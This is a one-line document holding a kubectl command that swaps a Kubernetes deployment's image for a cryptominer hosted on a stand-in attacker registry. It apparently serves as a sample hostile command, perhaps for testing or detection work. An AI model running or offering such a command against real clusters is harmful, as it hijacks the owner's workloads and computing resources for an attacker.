kubectl set image deployment/web web=evil.example/miner:1
